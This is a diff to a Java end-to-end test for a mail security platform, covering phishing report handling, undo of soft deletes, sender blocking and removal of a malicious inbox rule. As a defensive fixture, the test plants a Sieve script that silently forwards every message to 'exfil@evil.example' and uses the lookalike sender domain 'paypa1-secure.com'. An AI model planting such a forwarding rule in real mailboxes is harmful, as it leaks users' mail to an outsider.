@@ -8,7 +8,6 @@ import static org.openair.support.Api.eml;
 import static org.openair.support.Api.ingest;
 import static org.openair.support.Api.report;
 import static org.openair.support.Api.settled;
-import static org.openair.support.TestActions.approved;
 
 import io.quarkus.test.common.QuarkusTestResource;
 import io.quarkus.test.junit.QuarkusTest;
@@ -41,14 +40,10 @@ import java.util.regex.Pattern;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.openair.action.ActionStore;
-import org.openair.action.connector.ConnectorResult;
-import org.openair.action.connector.ImapConnector;
-import org.openair.action.connector.SieveConnector;
-import org.openair.domain.ActionType;
 import org.openair.domain.Delivery;
-import org.openair.domain.EntityType;
 import org.openair.domain.InboxRule;
 import org.openair.mail.ManageSieveClient;
+import org.openair.store.ActivityStore;
 import org.openair.store.Db;
 import org.openair.store.MessageStore;
 import org.openair.support.MailLab;
@@ -67,8 +62,7 @@ class MailSystemEndToEndTest {
 
   @Inject MessageStore messages;
   @Inject ActionStore actions;
-  @Inject ImapConnector imap;
-  @Inject SieveConnector sieve;
+  @Inject ActivityStore activity;
   @Inject Db db;
 
   @BeforeEach
@@ -78,16 +72,17 @@ class MailSystemEndToEndTest {
 
   @Test
   void reportedPhishIsSoftDeletedFromEveryMailboxUndoneAndTheReporterIsTold() throws Exception {
-    byte[] phish = eml("reported-phish.eml");
+    // A sender of its own, so the block below is not merged into another test's block.
+    String sender =
+        "service-" + UUID.randomUUID().toString().substring(0, 8) + "@paypa1-secure.com";
+    byte[] phish =
+        new String(eml("reported-phish.eml"), StandardCharsets.ISO_8859_1)
+            .replace("service@paypa1-secure.com", sender)
+            .getBytes(StandardCharsets.ISO_8859_1);
     String imid = messageId(phish);
     String subject = header(phish, "Subject");
 
-    MailLab.send(
-        phish,
-        "service@paypa1-secure.com",
-        "alice@corp.example",
-        "bob@corp.example",
-        "carol@corp.example");
+    MailLab.send(phish, sender, "alice@corp.example", "bob@corp.example", "carol@corp.example");
 
     // Postfix journals the three deliveries to OpenAIR and delivers the copies to Dovecot.
     String messageId =
@@ -138,23 +133,40 @@ class MailSystemEndToEndTest {
         .contains("imap: ")
         .contains("moved to Recoverable Items");
 
-    // The undo endpoint is not in this branch yet: the connector's undo is driven directly.
-    ConnectorResult undo = imap.undo(actions.find(softDelete).orElseThrow());
-    assertThat(undo.outcome()).as(undo.note()).isEqualTo(ConnectorResult.Outcome.DONE);
+    // Undo over HTTP: the worker carries the undo action out through the IMAP connector.
+    String undo =
+        asAdmin()
+            .contentType(ContentType.JSON)
+            .body("{\"comment\":\"end-to-end undo\"}")
+            .post("/api/v1/actions/" + softDelete + "/undo")
+            .then()
+            .statusCode(202)
+            .extract()
+            .path("id");
+    await().atMost(MAIL).until(() -> status(undo).equals("executed"));
     for (String u : USERS) {
       assertThat(MailLab.messageIds(u, "INBOX")).as(u).containsOnlyOnce(imid);
       assertThat(MailLab.messageIds(u, "Recoverable Items")).as(u).doesNotContain(imid);
     }
+    assertThat(actions.find(undo).orElseThrow().executionNote())
+        .contains("imap: ")
+        .contains("moved to INBOX");
+    assertThat(actions.find(softDelete).orElseThrow().undoneBy()).isEqualTo(undo);
 
     String notice =
         (String) inv.getList("actions.findAll { it.type == 'notify-reporter' }.id").get(0);
-    approve(notice);
+    // Reporter notices run without approval by default (automation level automatic).
+    await().atMost(MAIL).until(() -> !List.of("approved", "executing").contains(status(notice)));
+    assertThat(status(notice))
+        .as(asAdmin().get("/api/v1/actions/" + notice).asString())
+        .isEqualTo("executed");
     await()
         .atMost(MAIL)
         .until(() -> MailLab.subjects("carol", "INBOX").contains("Your report: " + subject));
 
     String block = (String) inv.getList("actions.findAll { it.type == 'block-sender' }.id").get(0);
     approve(block);
+    await().atMost(MAIL).until(() -> status(block).equals("executed"));
     assertThat(
             asAdmin()
                 .queryParam("format", "postfix")
@@ -163,7 +175,7 @@ class MailSystemEndToEndTest {
                 .statusCode(200)
                 .extract()
                 .asString())
-        .contains("service@paypa1-secure.com REJECT");
+        .contains(sender + " REJECT");
   }
 
   @Test
@@ -191,7 +203,8 @@ class MailSystemEndToEndTest {
   }
 
   @Test
-  void anExternalSieveRedirectIsReadAsAnInboxRuleAndRemovedFromDovecot() throws Exception {
+  void aNewExternalSieveRedirectLeadsTheCompromisedUserPlaybookToRemoveItFromDovecot()
+      throws Exception {
     String script = "openair-e2e-" + UUID.randomUUID().toString().substring(0, 8);
     try (ManageSieveClient alice = MailLab.sieve("alice")) {
       alice.putScript(script, "require [\"copy\"];\nredirect :copy \"exfil@evil.example\";\n");
@@ -235,34 +248,51 @@ class MailSystemEndToEndTest {
             .statusCode(202)
             .extract()
             .path("investigationId");
-    settled(investigationId);
+    JsonPath inv = settled(investigationId);
 
-    // The rule as the compromised-user playbook's INBOX_RULES lookup sees it.
-    InboxRule rule =
-        sieve.refreshRules("alice@corp.example").stream()
-            .filter(r -> script.equals(r.getName()))
-            .findFirst()
-            .orElseThrow();
+    // The playbook read the script over ManageSieve (INBOX_RULES lookup) as a new external rule.
+    assertThat(inv.getString("status")).isEqualTo("pending-action");
+    assertThat(inv.getString("verdict")).isIn("suspicious", "malicious");
+    assertThat(inv.getList("result.findings.provenance.ruleId", String.class))
+        .contains("OA-MBX-010");
+    Map<String, Object> removal =
+        inv.getMap(
+            "actions.find { it.type == 'remove-inbox-rule' && it.explanation.contains('"
+                + script
+                + "') }");
+    assertThat(removal).as("remove-inbox-rule for %s in %s", script, inv.prettify()).isNotNull();
+    assertThat(removal.get("ruleId")).isEqualTo("OA-CU-030");
+    String ruleId = (String) removal.get("target");
+    InboxRule rule = activity.inboxRule(ruleId).orElseThrow();
+    assertThat(rule.getMailbox()).isEqualTo("alice@corp.example");
+    assertThat(rule.getName()).isEqualTo(script);
     assertThat(rule.getForwardTo()).isEqualTo("exfil@evil.example");
     assertThat(rule.isExternal()).isTrue();
-    assertThat(rule.isEnabled()).isTrue();
 
-    // The compromised-user playbook that recommends the removal is not in this branch: the
-    // approved removal is handed to the connector as the executor would.
-    var removal =
-        approved(ActionType.REMOVE_INBOX_RULE, EntityType.INBOX_RULE, rule.getId(), List.of());
-    ConnectorResult removed = sieve.execute(removal);
-    assertThat(removed.outcome()).as(removed.note()).isEqualTo(ConnectorResult.Outcome.DONE);
-    assertThat(removed.note()).contains(script).contains("was active");
+    String removalId = (String) removal.get("id");
+    approve(removalId);
+    await().atMost(MAIL).until(() -> status(removalId).equals("executed"));
+    assertThat(actions.find(removalId).orElseThrow().executionNote())
+        .contains("sieve: alice@corp.example: deleted Sieve script " + script + " (was active)");
     try (ManageSieveClient alice = MailLab.sieve("alice")) {
       assertThat(alice.listScripts())
           .extracting(ManageSieveClient.Script::name)
           .doesNotContain(script);
     }
-    assertThat(sieve.execute(removal).outcome()).isEqualTo(ConnectorResult.Outcome.ALREADY_DONE);
-    assertThat(sieve.refreshRules("alice@corp.example"))
+    assertThat(activity.inboxRules("alice@corp.example"))
         .extracting(InboxRule::getName)
         .doesNotContain(script);
+
+    // Turning off external forwarding afterwards finds nothing left to remove: executed, noted.
+    String forwarding =
+        inv.getString(
+            "actions.find { it.type == 'disable-external-forwarding'"
+                + " && it.target == 'alice@corp.example' && it.status == 'pending' }.id");
+    assertThat(forwarding).isNotNull();
+    approve(forwarding);
+    await().atMost(MAIL).until(() -> status(forwarding).equals("executed"));
+    assertThat(actions.find(forwarding).orElseThrow().executionNote())
+        .contains("no Sieve script forwards outside the organisation");
   }
 
   @Test
